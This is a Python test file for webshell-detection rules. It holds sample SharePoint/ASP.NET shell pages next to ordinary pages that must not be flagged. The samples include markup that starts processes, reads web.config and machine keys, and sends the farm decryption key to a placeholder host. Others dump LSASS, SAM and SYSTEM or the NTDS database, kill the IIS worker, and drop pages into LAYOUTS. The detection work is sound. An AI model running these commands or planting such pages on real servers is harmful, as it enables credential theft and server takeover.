"""Rules from the thirty-seventh unseen collection: SharePoint and other Microsoft server intrusions (issue 14,
helper X37).

On first sight (BENCHMARKS.md, "Unseen shells, thirty-seventh collection: SharePoint and Microsoft server
intrusions") the own rules and the behaviour analysis missed all twelve pages of the first batch. Eleven do their
harm in markup alone, as SharePoint site pages must (no code blocks): an ObjectDataSource bound to
System.Diagnostics.Process, XmlDataSource/Xml controls and server-side includes that pull web.config into the page,
a ControlParameter bound to the farm's stored validation key, and the CVE-2020-1147 DataSet control with its cache
field. The twelfth, a ToolShell page from a threat report, starts cmd.exe with a command that kills the IIS worker
and swaps pages in LAYOUTS - no request value, and not a reconnaissance command. The rules:

- ``EXT_WEBSHELL_DataSource_Bound_To_Process``, ``EXT_WEBSHELL_Markup_Reads_Site_Configuration``,
  ``EXT_WEBSHELL_Markup_Binds_Farm_Secrets``, ``EXT_WEBSHELL_SharePoint_Deserialising_Control_Page``
  (``data/rules/markup_gadget_pages.yar``);
- ``EXT_WEBSHELL_Markup_Reflects_Request_Unescaped`` (same file; second batch: Metasploit's CVE-2020-16952 page, a
  data view web part that writes a request header unescaped, so the request's include of web.config becomes markup);
- ``EXT_WEBSHELL_Interpreter_With_Baked_Server_Tamper_Command`` and, for the credential dumps the intrusion
  reports list (LSASS through comsvcs.dll or procdump, hive saves, ntdsutil),
  ``EXT_WEBSHELL_Process_Baked_Credential_Dump`` (``data/rules/kit_actions.yar``).

The shells below are harmless pages in those shapes, written here: nothing is run by the tests, the programs,
paths, identifiers and payload text differ from the collected pages, and the "payload" attributes hold filler. The
ordinary pages are the closest everyday code: data-source controls bound to an application's own classes and XML
files, an include of the site's own header, an administration page that reads its own configuration sections to
show their state, a machine-key generator page, a SharePoint page that hosts the suggestions control as SharePoint
does, a control parameter bound to a drop-down list, a page that starts its own tool, and one that runs ``cmd.exe
/c iisreset`` alone (left silent on purpose).
"""

from __future__ import annotations

from pathlib import Path

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, quiet_pages_test, rule_tables, yara_rules

_ODS = "EXT_WEBSHELL_DataSource_Bound_To_Process"
_CFG = "EXT_WEBSHELL_Markup_Reads_Site_Configuration"
_FARM = "EXT_WEBSHELL_Markup_Binds_Farm_Secrets"
_GADGET = "EXT_WEBSHELL_SharePoint_Deserialising_Control_Page"
_TAMPER = "EXT_WEBSHELL_Interpreter_With_Baked_Server_Tamper_Command"
_DUMP = "EXT_WEBSHELL_Process_Baked_Credential_Dump"
_REFLECT = "EXT_WEBSHELL_Markup_Reflects_Request_Unescaped"

_SP_REGISTER = (
    '<%@ Register TagPrefix="WebPartPages" Namespace="Microsoft.SharePoint.WebPartPages" '
    'Assembly="Microsoft.SharePoint, Version=16.0.0.0, Culture=neutral, PublicKeyToken=71e9bce111e9429c" %>\n'
)

ODS_SHELLS: list[Page] = [
    (
        "ods-process-start-notepad",
        ".aspx",
        '<%@ Page Language="C#" %>\n<form runat="server">\n'
        '<asp:ObjectDataSource ID="Src" runat="server" TypeName="System.Diagnostics.Process" SelectMethod="Start">\n'
        "  <SelectParameters>\n"
        '    <asp:Parameter Name="fileName" Type="String" DefaultValue="notepad.exe" />\n'
        "  </SelectParameters>\n</asp:ObjectDataSource>\n"
        '<asp:GridView ID="Grid" runat="server" DataSourceID="Src" />\n</form>\n',
    ),
    (
        "ods-custom-prefix-lowercase-type-in-template",
        ".aspx",
        '<%@ Register TagPrefix="w" Namespace="System.Web.UI.WebControls" Assembly="System.Web, Version=4.0.0.0, '
        'Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a" %>\n'
        '<asp:Repeater ID="Outer" runat="server"><HeaderTemplate>\n'
        '<w:ObjectDataSource ID="Inner" runat="server" SelectMethod="Start"\n'
        '    TypeName="system.diagnostics.process">\n<SelectParameters>\n'
        '<w:Parameter Name="fileName" DefaultValue="cmd" />\n'
        '<w:Parameter Name="arguments" DefaultValue="/c echo placeholder" />\n'
        "</SelectParameters></w:ObjectDataSource>\n"
        '<w:DropDownList ID="Pick" runat="server" DataSourceID="Inner" />\n'
        "</HeaderTemplate></asp:Repeater>\n",
    ),
    (
        "ods-made-in-code-bound-to-assembly-load",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "protected void Page_Init(object sender, EventArgs e)\n{\n"
        "    var src = new ObjectDataSource();\n"
        '    src.ID = "Loader";\n    src.TypeName = "System.Reflection.Assembly";\n'
        '    src.SelectMethod = "LoadFile";\n'
        '    src.SelectParameters.Add("path", @"C:\\Windows\\Temp\\plugin.dll");\n'
        "    Holder.Controls.Add(src);\n}\n</script>\n"
        '<asp:PlaceHolder ID="Holder" runat="server" />\n',
    ),
]

CFG_SHELLS: list[Page] = [
    (
        "ssi-include-virtual-web-config-spaced",
        ".aspx",
        '<html><body><pre>\n<!-- #include virtual = "/web.config" -->\n</pre></body></html>\n',
    ),
    (
        "xmldatasource-connection-strings-grid",
        ".aspx",
        '<%@ Page Language="C#" %>\n<form runat="server">\n'
        '<asp:XmlDataSource ID="Conf" runat="server" XPath="configuration/connectionStrings/add"\n'
        '    DataFile="~/Web.config" />\n<asp:GridView ID="View" runat="server" DataSourceID="Conf" />\n</form>\n',
    ),
    (
        "xml-control-entity-runat-absolute-config",
        ".aspx",
        '<asp:DataList ID="Wrap" runat="server"><HeaderTemplate>\n'
        '<asp:Xml ID="Doc" runat="&#115;erver" DocumentSource="D:\\Sites\\portal\\web.config" />\n'
        "</HeaderTemplate></asp:DataList>\n",
    ),
    (
        "xpath-into-machine-key-config-from-setting",
        ".aspx",
        '<%@ Page Language="C#" %>\n<form runat="server">\n'
        '<asp:XmlDataSource ID="Keys" runat="server" DataFile=\'<%$ AppSettings:ConfigPath %>\'\n'
        '    XPath="/configuration/system.web/machineKey" />\n'
        '<asp:Menu ID="Nav" runat="server" DataSourceID="Keys" />\n</form>\n',
    ),
]

FARM_SHELLS: list[Page] = [
    (
        "control-parameter-farm-decryption-key-to-soap",
        ".aspx",
        '<%@ Page Language="C#" %>\n<SharePoint:TemplateContainer ID="Holder" runat="server" />\n'
        '<SharePoint:SoapDataSource ID="Out" runat="server" SelectUrl="http://collector.invalid/in.asmx">\n'
        "<SelectParameters>\n"
        '<asp:ControlParameter Name="k" ControlID="Holder"\n'
        '    PropertyName="Web.Site.WebApplication.Farm.InitializationSettings[MachineDecryptionKey]" />\n'
        '</SelectParameters></SharePoint:SoapDataSource>\n<form runat="server">\n'
        '<asp:BulletedList ID="L" runat="server" DataSourceID="Out" /></form>\n',
    ),
]

GADGET_SHELLS: list[Page] = [
    (
        "suggestions-control-with-cache-field",
        ".aspx",
        '<%@ Page Language="C#" %>\n'
        '<%@ Register TagPrefix="pw" Namespace="Microsoft.SharePoint.Portal.WebControls" '
        'Assembly="Microsoft.SharePoint.Portal, Version=16.0.0.0, Culture=neutral, PublicKeyToken=71e9bce111e9429c" %>\n'
        '<form id="f" runat="server">\n<pw:ContactLinksSuggestionsMicroView ID="Sugg" runat="server" />\n'
        '<asp:HiddenField ID="__SUGGESTIONSCACHE__" runat="server" />\n'
        '<asp:LinkButton ID="Go" runat="server" Text="Send" />\n</form>\n',
    ),
    (
        "excel-data-set-with-compressed-table",
        ".aspx",
        '<%@ Register TagPrefix="pp" Namespace="Microsoft.PerformancePoint.Scorecards" '
        'Assembly="Microsoft.PerformancePoint.Scorecards.Client, Version=16.0.0.0, Culture=neutral, '
        'PublicKeyToken=71e9bce111e9429c" %>\n'
        '<pp:ExcelDataSet runat="server" DataTable-CaseSensitive="true" '
        'CompressedDataTable="QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=" />\n',
    ),
]

TAMPER_SHELLS: list[Page] = [
    (
        "cmd-kills-worker",
        ".aspx",
        '<%@ Page Language="C#" %>\n<% System.Diagnostics.Process.Start("cmd.exe", "/c taskkill /f /im w3wp.exe"); %>\n',
    ),
    (
        "powershell-copies-page-into-site",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e)\n{\n"
        '    var psi = new ProcessStartInfo("powershell.exe", "-Command Copy-Item C:\\\\Temp\\\\n.txt '
        'C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\status.aspx");\n'
        "    psi.UseShellExecute = false;\n    Process.Start(psi);\n}\n</script>\n",
    ),
    (
        "cmd-echo-writes-page-escaped-quotes",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\nvar p = new System.Diagnostics.Process();\n'
        'p.StartInfo.FileName = "cmd";\n'
        'p.StartInfo.Arguments = "/c echo placeholder > \\"C:\\\\Program Files\\\\Common Files\\\\Microsoft Shared'
        '\\\\Web Server Extensions\\\\16\\\\TEMPLATE\\\\LAYOUTS\\\\help2.aspx\\"";\np.Start();\n%>\n',
    ),
]

DUMP_SHELLS: list[Page] = [
    (
        "rundll32-comsvcs-minidump",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e)\n{\n"
        '    int id = System.Diagnostics.Process.GetProcessesByName("lsass")[0].Id;\n'
        '    System.Diagnostics.Process.Start("rundll32.exe", "C:\\\\Windows\\\\System32\\\\comsvcs.dll, MiniDump " '
        '+ id + " C:\\\\Windows\\\\Temp\\\\m.bin full");\n}\n</script>\n',
    ),
    (
        "cmd-reg-save-system-hive",
        ".aspx",
        '<%@ Page Language="C#" %>\n<% System.Diagnostics.Process.Start("cmd.exe", '
        '"/c reg save HKLM\\\\SYSTEM C:\\\\Windows\\\\Temp\\\\y.tmp /y"); %>\n',
    ),
    (
        "procdump-lsass-vb",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load()\n'
        '    Dim psi As New System.Diagnostics.ProcessStartInfo("cmd.exe", '
        '"/c C:\\Tools\\procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\p.dmp")\n'
        "    System.Diagnostics.Process.Start(psi)\nEnd Sub\n</script>\n",
    ),
    (
        "reg-as-program-saves-sam",
        ".aspx",
        '<%@ Page Language="C#" %>\n<% System.Diagnostics.Process.Start("reg.exe", '
        '"save hklm\\\\sam C:\\\\Windows\\\\Temp\\\\s.tmp"); %>\n',
    ),
    (
        "procdump-as-program",
        ".aspx",
        '<%@ Page Language="C#" %>\n<% System.Diagnostics.Process.Start(@"C:\\Tools\\procdump.exe", '
        '"-accepteula -ma lsass C:\\\\Temp\\\\q.dmp"); %>\n',
    ),
    (
        "ntdsutil-ifm",
        ".aspx",
        '<%@ Page Language="C#" %>\n<% System.Diagnostics.Process.Start("ntdsutil.exe", '
        '"\\"ac i ntds\\" ifm \\"create full C:\\\\Temp\\\\i\\" q q"); %>\n',
    ),
]

REFLECT_SHELLS: list[Page] = [
    (
        "data-view-writes-header-parameter-unescaped",
        ".aspx",
        '<WebPartPages:DataFormWebPart runat="server">\n<ParameterBindings>\n'
        '<ParameterBinding Name="pv" Location="ServerVariable(HTTP_X_PREVIEW_NOTE)" DefaultValue="" />\n'
        '</ParameterBindings>\n<xsl><xsl:stylesheet version="1.0" '
        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n<xsl:param name="pv" />\n'
        '<xsl:template match="/"><div><xsl:value-of select="$pv" disable-output-escaping="yes" /></div>'
        "</xsl:template>\n</xsl:stylesheet></xsl>\n</WebPartPages:DataFormWebPart>\n",
    ),
    (
        "data-view-writes-query-parameter-unescaped-attribute-order",
        ".aspx",
        _SP_REGISTER + '<WebPartPages:DataFormWebPart ID="Dv" runat="server"><ParameterBindings>'
        '<ParameterBinding Name="Snippet" Location="QueryString(s)" DefaultValue="" /></ParameterBindings>\n'
        '<Xsl><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        '<xsl:param name="Snippet"/><xsl:template match="/">'
        '<xsl:value-of disable-output-escaping="yes" select="$Snippet"/></xsl:template></xsl:stylesheet></Xsl>\n'
        "</WebPartPages:DataFormWebPart>\n",
    ),
]

# Everyday pages of each shape: each must raise no finding at all.
ORDINARY: list[Page] = [
    (
        "ods-bound-to-application-class",
        ".aspx",
        '<%@ Page Language="C#" %>\n<form runat="server">\n'
        '<asp:ObjectDataSource ID="Products" runat="server" TypeName="Shop.Data.ProductRepository"\n'
        '    SelectMethod="GetByCategory">\n<SelectParameters>\n'
        '<asp:QueryStringParameter Name="category" QueryStringField="c" Type="Int32" />\n'
        "</SelectParameters></asp:ObjectDataSource>\n"
        '<asp:GridView ID="List" runat="server" DataSourceID="Products" />\n</form>\n',
    ),
    (
        "xml-data-menu-and-news-transform",
        ".aspx",
        '<%@ Page Language="C#" %>\n<form runat="server">\n'
        '<asp:XmlDataSource ID="MenuSrc" runat="server" DataFile="~/App_Data/menu.xml" XPath="/menu/item" />\n'
        '<asp:TreeView ID="Tree" runat="server" DataSourceID="MenuSrc" />\n'
        '<asp:Xml ID="News" runat="server" DocumentSource="~/App_Data/news.xml" '
        'TransformSource="~/App_Data/news.xslt" />\n</form>\n',
    ),
    (
        "include-of-site-header",
        ".aspx",
        '<%@ Page Language="C#" %>\n<!--#include virtual="/inc/header.inc" -->\n'
        '<p>Opening hours</p>\n<!--#include file="footer.inc" -->\n',
    ),
    (
        "admin-page-reads-own-config-sections",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n<script runat="server">\n'
        "protected void Page_Load(object s, EventArgs e)\n{\n"
        '    var cfg = WebConfigurationManager.OpenWebConfiguration("~");\n'
        '    var comp = (CompilationSection)cfg.GetSection("system.web/compilation");\n'
        '    var keys = (MachineKeySection)cfg.GetSection("system.web/machineKey");\n'
        '    Debug.Text = comp.Debug ? "on" : "off";\n'
        '    KeyMode.Text = keys.ValidationKey.StartsWith("AutoGenerate") ? "generated per server" : "fixed";\n'
        '    Settings.Text = WebConfigurationManager.AppSettings.Count + " settings";\n}\n</script>\n'
        '<asp:Label ID="Debug" runat="server" /> <asp:Label ID="KeyMode" runat="server" /> '
        '<asp:Label ID="Settings" runat="server" />\n',
    ),
    (
        "machine-key-generator-page",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Security.Cryptography" %>\n'
        '<%@ Import Namespace="System.Text" %>\n<script runat="server">\n'
        "static string Hex(int n)\n{\n    var b = new byte[n];\n"
        "    using (var rng = RandomNumberGenerator.Create()) rng.GetBytes(b);\n"
        '    var sb = new StringBuilder();\n    foreach (var x in b) sb.Append(x.ToString("X2"));\n'
        "    return sb.ToString();\n}\n"
        "protected void Make(object s, EventArgs e)\n{\n"
        '    Output.Text = Server.HtmlEncode("<machineKey validationKey=\\"" + Hex(64) + "\\" decryptionKey=\\"" '
        '+ Hex(32) + "\\" validation=\\"HMACSHA256\\" decryption=\\"AES\\" />");\n}\n</script>\n'
        '<form runat="server"><asp:Button ID="Go" runat="server" OnClick="Make" Text="Generate" />\n'
        '<asp:Literal ID="Output" runat="server" /></form>\n',
    ),
    (
        "sharepoint-page-hosting-suggestions-control",
        ".aspx",
        '<%@ Page Language="C#" Inherits="Microsoft.SharePoint.WebControls.LayoutsPageBase" %>\n'
        '<%@ Register TagPrefix="SPSWC" Namespace="Microsoft.SharePoint.Portal.WebControls" '
        'Assembly="Microsoft.SharePoint.Portal, Version=16.0.0.0, Culture=neutral, PublicKeyToken=71e9bce111e9429c" %>\n'
        + _SP_REGISTER
        + '<asp:Content ContentPlaceHolderId="PlaceHolderMain" runat="server">\n'
        '<SPSWC:ContactLinksSuggestionsMicroView ID="Suggestions" runat="server" />\n</asp:Content>\n',
    ),
    (
        "control-parameter-bound-to-drop-down",
        ".aspx",
        '<%@ Page Language="C#" %>\n<form runat="server">\n'
        '<asp:DropDownList ID="Region" runat="server" AutoPostBack="true" />\n'
        '<SharePoint:XmlUrlDataSource ID="Feed" runat="server" HttpMethod="GET" '
        'SelectCommand="https://news.example.org/rss">\n<SelectParameters>\n'
        '<asp:ControlParameter Name="region" ControlID="Region" PropertyName="SelectedValue" />\n'
        "</SelectParameters></SharePoint:XmlUrlDataSource>\n"
        '<asp:Repeater ID="Items" runat="server" DataSourceID="Feed" />\n</form>\n',
    ),
    (
        "data-view-filters-by-query-id-and-writes-rich-text",
        ".aspx",
        _SP_REGISTER + '<WebPartPages:DataFormWebPart ID="News" runat="server"><ParameterBindings>'
        '<ParameterBinding Name="ItemId" Location="QueryString(ID)" DefaultValue="0" />'
        '<ParameterBinding Name="url_HTTP_HOST" Location="ServerVariable(HTTP_HOST)" DefaultValue="" />'
        '</ParameterBindings>\n<Xsl><xsl:stylesheet version="1.0" '
        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n<xsl:param name="ItemId" />'
        '<xsl:param name="url_HTTP_HOST" />\n<xsl:template match="/">\n'
        '<xsl:for-each select="/dsQueryResponse/Rows/Row[@ID=$ItemId]">\n'
        "<a href=\"{concat('https://', $url_HTTP_HOST, '/news')}\"><xsl:value-of select=\"@Title\" /></a>\n"
        '<xsl:value-of select="@Body" disable-output-escaping="yes" />\n</xsl:for-each>\n'
        "</xsl:template></xsl:stylesheet></Xsl>\n</WebPartPages:DataFormWebPart>\n",
    ),
    (
        "page-starts-own-thumbnail-tool",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e)\n{\n"
        '    var tool = Server.MapPath("~/bin/thumbs.exe");\n'
        '    var p = System.Diagnostics.Process.Start(tool, "--width 120 --copy cover.png thumbs\\\\cover.png");\n'
        "    p.WaitForExit(5000);\n}\n</script>\n",
    ),
]

CASES: list[RuleCase] = [
    (_ODS, ODS_SHELLS, ORDINARY),
    (_CFG, CFG_SHELLS, ORDINARY),
    (_FARM, FARM_SHELLS, ORDINARY),
    (_GADGET, GADGET_SHELLS, ORDINARY),
    (_TAMPER, TAMPER_SHELLS, ORDINARY),
    (_DUMP, DUMP_SHELLS, ORDINARY),
    (_REFLECT, REFLECT_SHELLS, ORDINARY),
]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES, log_url="/_layouts/15/start.aspx")

test_ordinary_page_raises_no_finding = quiet_pages_test(ORDINARY)


def test_iisreset_alone_stays_silent(tmp_path: Path, params: content.ContentParams) -> None:
    """Restarting IIS through cmd is no page swap: the tamper rule wants the worker killed or a page written, as the
    bare-interpreter rule (``kit_actions.yar``, X19) already leaves ``cmd.exe /c iisreset`` alone."""
    page = '<%@ Page Language="C#" %>\n<% System.Diagnostics.Process.Start("cmd.exe", "/c iisreset /noforce"); %>\n'
    assert _TAMPER not in yara_rules(tmp_path, "restart.aspx", page, params)


def test_tamper_command_needs_a_command_line(tmp_path: Path, params: content.ContentParams) -> None:
    """A note or message that mentions copying a page is no command: the literal must start as a command line
    (``/c``, ``/k``, ``-c``, ``-Command``)."""
    page = (
        '<%@ Page Language="C#" %>\n<% System.Diagnostics.Process.Start("cmd.exe");\n'
        'Status.Text = "Please copy the new default.aspx by hand"; %>\n<asp:Label ID="Status" runat="server" />\n'
    )
    assert _TAMPER not in yara_rules(tmp_path, "note.aspx", page, params)
